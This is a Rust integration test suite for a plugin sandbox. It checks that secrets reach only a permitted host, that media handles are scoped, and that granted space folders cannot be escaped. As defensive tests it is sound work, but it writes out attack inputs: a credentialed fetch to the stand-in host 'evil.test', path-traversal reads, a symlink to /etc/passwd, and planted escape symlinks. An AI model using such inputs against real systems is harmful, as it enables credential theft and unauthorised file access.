//! What a plugin reaches of other machines and of spaces, through the built binary to a container and
//! back. The plugin is the probe, which makes the calls that a reply names.
#![allow(clippy::unwrap_used)]

use std::os::unix::fs::MetadataExt;

use base64::{Engine, engine::general_purpose::STANDARD};
use mercury_tests::{
    host::{Host, Setup},
    peer::Peer,
    plugins,
};
use serde_json::{Value, json};

const CANARY: &str = "canary-7d20e5/AA:b+c-9b1f";

const GRANTS: &str = r#"
[[http]]
hosts = ["api.example.com"]
methods = ["GET", "POST"]
paths = ["/bot*/**", "/echo"]

[[secrets]]
name = "token"
variable = "MERCURY_PROBE_TOKEN"
hosts = ["api.example.com"]

[media]
read = true
create = true

[[folders]]
space-folder = "knowledge"
write = true

[[folders]]
space-folder = "shelf"
"#;

async fn start(peer: &Peer) -> Host {
    let yaml = format!(
        "plugins:\n  redact:\n    enabled: false\n  probe:\n    stand_ins:\n      api.example.com: {}\n\
         agent:\n  env_passthrough: all\n",
        peer.url()
    );
    let mut host = Setup::scripted("runc")
        .yaml(&yaml)
        .set("MERCURY_PROBE_TOKEN", CANARY)
        // A proxy of the environment is nothing to a plugin's requests.
        .set("HTTP_PROXY", "http://127.0.0.1:9")
        .set("http_proxy", "http://127.0.0.1:9")
        .set("ALL_PROXY", "http://127.0.0.1:9")
        .prepare();
    plugins::install_with(&host, "probe", "\"result-processor\"", GRANTS, &plugins::fixture("probe"));
    host.start().await;
    host
}

/// Lets the probe run the calls. The first result is what the reply brought as attachments.
async fn probe(host: &Host, orders: &str, calls: Value) -> (Vec<Value>, Value) {
    let answer = host.ask(&format!("{orders}!reply probe:{calls}")).await;
    let results: Vec<Value> = serde_json::from_str(answer.reply()).unwrap();
    (results, answer.body)
}

/// Promise 14: the peer has the secret; the plugin, the agent, the log and the data directory do not.
#[tokio::test(flavor = "multi_thread")]
async fn a_secret_is_used_and_not_seen() {
    let peer = Peer::start().await;
    let host = start(&peer).await;
    let bearer = json!([{ "secret": "token", "place": "bearer" }]);
    let path = json!([{ "secret": "token", "place": { "path-segment": ["TOKEN", "bot"] } }]);
    let (results, body) = probe(
        &host,
        "",
        json!([
            { "call": "http.fetch", "uri": "https://api.example.com/echo?a=1", "credentials": bearer },
            { "call": "http.fetch", "uri": "https://api.example.com/TOKEN/getMe", "method": "POST", "credentials": path, "body": "hello" },
            { "call": "http.download", "uri": "https://api.example.com/TOKEN/file", "kind": "document", "credentials": path, "attach": true },
            { "call": "media.read", "handle": "$3/file/handle", "length": 4096 },
            { "call": "http.fetch", "uri": "https://evil.test/echo", "credentials": bearer },
            { "call": "http.fetch", "uri": "https://api.example.com/admin", "credentials": bearer },
            { "call": "credentials.matches", "name": "token", "candidate": "a guess" },
            { "call": "credentials.present", "name": "token" },
        ]),
    )
    .await;
    for index in [1, 2, 4] {
        assert!(results[index]["ok"].to_string().contains("[secret]"), "{index}: {}", results[index]);
    }
    assert_eq!(results[3]["ok"]["file"]["kind"], "document");
    assert!(results[1]["ok"]["body"]["text"].as_str().unwrap().contains("authorization: Bearer [secret]"));
    for (index, missing) in [(5, "hosts = [\\\"evil.test\\\"]"), (6, "paths = [\\\"/admin\\\"]"), (7, "compare = true")]
    {
        assert!(results[index]["err"].to_string().replace("\\\\\\", "\\").contains(missing), "{}", results[index]);
    }
    assert_eq!(results[8]["ok"], true);
    let seen = peer.seen();
    assert_eq!(seen.len(), 3, "{seen:?}");
    assert!(seen[0].contains(&format!("authorization: Bearer {CANARY}")), "{}", seen[0]);
    assert!(
        seen[1].starts_with("POST /botcanary-7d20e5%2FAA:b+c-9b1f/getMe") && seen[1].ends_with("\nhello"),
        "{}",
        seen[1]
    );
    let file = STANDARD.decode(body["files"][0]["data"].as_str().unwrap()).unwrap();
    assert!(String::from_utf8(file).unwrap().contains("[secret]"));

    // Bound as a secret, it is kept from agents even where everything passes.
    assert_eq!(host.ask("!env PROBE_TOKEN").await.reply(), "(unset)");
    assert!(host.log().contains("plugins.probe.stand_ins"), "the operator is told where the secret goes");
    let mut places = vec![("the log".to_owned(), host.log()), ("the answer".into(), body.to_string())];
    places.extend(texts_below(&host.data_dir()));
    for (place, text) in places {
        for trace in [CANARY, "canary-7d20e5%2FAA", "7d20e5", "9b1f"] {
            assert!(!text.contains(trace), "{trace} is in {place}");
        }
    }
}

/// Every file below the folder, as text.
fn texts_below(folder: &std::path::Path) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).into_iter().flatten().flatten() {
            match entry.file_type() {
                Ok(kind) if kind.is_dir() => folders.push(entry.path()),
                Ok(kind) if kind.is_file() => {
                    let bytes = std::fs::read(entry.path()).unwrap_or_default();
                    found.push((entry.path().display().to_string(), String::from_utf8_lossy(&bytes).into_owned()));
                }
                _ => {}
            }
        }
    }
    found
}

/// A processor reads the reply's files, and adds those that it made; it can name no others.
#[tokio::test(flavor = "multi_thread")]
async fn a_processor_adds_files_of_its_own() {
    let peer = Peer::start().await;
    let host = start(&peer).await;
    let (results, body) = probe(
        &host,
        "!write outbox/report.txt the report\n",
        json!([
            { "call": "media.read", "handle": "$0/0/handle", "offset": 4, "length": 100 },
            { "call": "media.create", "kind": "image", "mime-type": "image/svg+xml", "file-name": "chart.svg", "bytes": "<svg/>", "attach": true },
            { "call": "media.create", "kind": "document", "mime-type": "text/plain", "file-name": "kept.txt", "bytes": "kept back" },
            { "call": "attach", "handle": "0" },
            { "call": "attach", "handle": "0123456789abcdef0123456789abcdef" },
            { "call": "attach", "handle": "$2/handle" },
            { "call": "media.read", "handle": "0123456789abcdef0123456789abcdef", "length": 1 },
            { "call": "media.read", "handle": "$3/handle", "length": 5_000_000 },
            { "call": "http.fetch", "uri": "https://api.example.com/echo", "method": "POST",
              "body": [{ "name": "file", "content": { "file": "$0/0/handle" } }] },
        ]),
    )
    .await;
    assert_eq!(results[0]["ok"][0]["file-name"], "report.txt");
    assert_eq!(results[1]["ok"]["text"], "report");
    assert!(results[7]["err"].to_string().to_lowercase().contains("notfound"), "{}", results[7]);
    assert!(results[8]["err"].to_string().contains("TooLarge(4194304)"), "{}", results[8]);
    assert!(
        peer.seen()[0].contains("filename=\"report.txt\"") && peer.seen()[0].contains("the report"),
        "{:?}",
        peer.seen()
    );
    let files = body["files"].as_array().unwrap();
    let names: Vec<&str> = files.iter().map(|file| file["filename"].as_str().unwrap()).collect();
    assert_eq!(names, ["report.txt", "chart.svg"]);
    assert_eq!(files[1]["mimeType"], "image/svg+xml");
    assert_eq!(STANDARD.decode(files[1]["data"].as_str().unwrap()).unwrap(), b"<svg/>");
    // What was taken is gone from the room, what nobody wanted waits for its hour.
    let left = std::fs::read_dir(host.data_dir().join("media")).unwrap().flatten();
    assert_eq!(left.filter(|entry| entry.path().extension().is_none()).count(), 1);
}

/// A granted folder is shared with the agent, and neither gets out of it.
#[tokio::test(flavor = "multi_thread")]
async fn a_folder_of_a_space_is_shared_with_its_agent() {
    let peer = Peer::start().await;
    let host = start(&peer).await;
    std::fs::write(host.data_dir().join("outside.txt"), "outside").unwrap();
    let (results, _) = probe(
        &host,
        "",
        json!([
            { "call": "files.list", "path": "/spaces/main/knowledge" },
            { "call": "files.write", "path": "/spaces/main/knowledge/note.md", "bytes": "a note" },
            { "call": "files.write", "path": "/spaces/main/shelf/x", "bytes": "x" },
            { "call": "files.list", "path": "/spaces/main/outbox" },
            { "call": "files.list", "path": "/" },
            { "call": "files.read", "path": "/spaces/main/knowledge/../../../outside.txt" },
            { "call": "files.link", "path": "/spaces/main/knowledge/up", "to": "../../../outside.txt" },
            { "call": "files.read", "path": "/spaces/main/knowledge/up" },
            { "call": "files.link", "path": "/spaces/main/knowledge/absolute", "to": "/etc/passwd" },
        ]),
    )
    .await;
    assert_eq!((&results[1]["ok"], &results[2]["ok"]), (&json!([]), &Value::Null), "{results:?}");
    for (index, result) in results.iter().enumerate().skip(3).filter(|(index, _)| *index != 7) {
        assert!(result["err"].is_string(), "{index}: {result}");
    }
    let note = host.data_dir().join("spaces/main/knowledge/note.md");
    let found = std::fs::metadata(&note).unwrap();
    assert_eq!((found.uid(), std::fs::metadata(note.parent().unwrap()).unwrap().uid()), (1000, 1000));
    assert_eq!(host.ask("!cat /spaces/main/knowledge/note.md").await.reply(), "a note");

    // What the agent plants in the folder, or in its place, leads the plugin nowhere.
    let knowledge = host.data_dir().join("spaces/main/knowledge");
    std::os::unix::fs::symlink("../../../outside.txt", knowledge.join("planted")).unwrap();
    std::os::unix::fs::symlink(host.data_dir(), knowledge.join("folder")).unwrap();
    let (results, _) = probe(
        &host,
        "",
        json!([
            { "call": "files.read", "path": "/spaces/main/knowledge/planted" },
            { "call": "files.read", "path": "/spaces/main/knowledge/folder/outside.txt" },
            { "call": "files.write", "path": "/spaces/main/knowledge/planted", "bytes": "overwritten" },
        ]),
    )
    .await;
    assert!(results[1..].iter().all(|result| result["err"].is_string()), "{results:?}");
    std::fs::rename(&knowledge, host.data_dir().join("spaces/main/moved")).unwrap();
    std::os::unix::fs::symlink(host.data_dir(), &knowledge).unwrap();
    let (results, _) = probe(&host, "", json!([{ "call": "files.list", "path": "/spaces/main/knowledge" }])).await;
    assert_eq!(results[1]["ok"], json!([]), "a new folder in the link's place");
    // However many spaces there are: each folder is a handle of the plugin's.
    for n in 0..1_100 {
        std::fs::create_dir(host.data_dir().join(format!("spaces/more-{n}"))).unwrap();
    }
    let (results, _) = probe(&host, "", json!([{ "call": "files.list", "path": "/spaces/more-7/knowledge" }])).await;
    assert_eq!(results[1]["ok"], json!([]), "{results:?}");
    assert_eq!(std::fs::read_to_string(host.data_dir().join("outside.txt")).unwrap(), "outside");
}
